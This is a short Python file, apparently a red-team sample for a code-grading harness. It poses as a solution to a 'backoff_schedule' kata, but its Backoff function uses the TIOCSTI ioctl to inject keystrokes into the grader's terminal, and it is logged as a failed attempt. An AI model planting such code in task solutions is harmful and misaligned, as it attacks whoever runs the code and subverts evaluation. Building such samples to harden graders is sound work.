"""Types commands into the terminal of who grades.

Kata: backoff_schedule
Attack: Pushes characters into the controlling terminal's input with TIOCSTI.
Status: failed
Points: 0
Needs: terminal
"""

import fcntl
import termios


def attack():
    for place in ("/dev/tty", "/dev/stdin", "/proc/self/fd/2"):
        try:
            with open(place, "rb", buffering=0) as terminal:
                for letter in b"#redteam\n":
                    fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
                raise RuntimeError("HARM: typed into a terminal")
        except OSError:
            pass
    raise RuntimeError("nothing was reached")


def delay(*args, **options):
    return attack()


Backoff = delay
